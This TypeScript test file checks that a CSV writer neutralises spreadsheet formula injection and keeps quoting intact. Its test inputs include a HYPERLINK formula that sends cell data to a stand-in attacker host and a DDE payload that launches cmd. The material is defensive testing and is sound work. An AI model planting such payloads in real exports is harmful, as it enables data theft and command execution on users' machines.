import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvLine } from '../../src/staff/csv/writeCsv.ts';
import { readCsv } from '../support/readCsv.ts';

test.each([
  '=HYPERLINK("https://thief.example/?x="&A1,"open")',
  '+44',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
])('a cell that a spreadsheet would run is text: %j', (text) => {
  const [[cell] = []] = readCsv(csvLine([text]));
  expect(cell).toBe(`'${text}`);
});

test('no text leaves its cell, its row or its quotes', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 5 }), (texts) => {
      const [row = [], ...others] = readCsv(csvLine(texts));
      expect(others).toEqual([]);
      expect(row.map((cell, index) => (cell === `'${texts[index]}` ? texts[index] : cell))).toEqual(texts);
      for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@]/);
    }),
  );
});

test('numbers stay numbers, and nothing is an empty cell', () => {
  expect(csvLine([-5, null, 'a,b', 'say "no"'])).toBe('-5,,"a,b","say ""no"""\r\n');
});
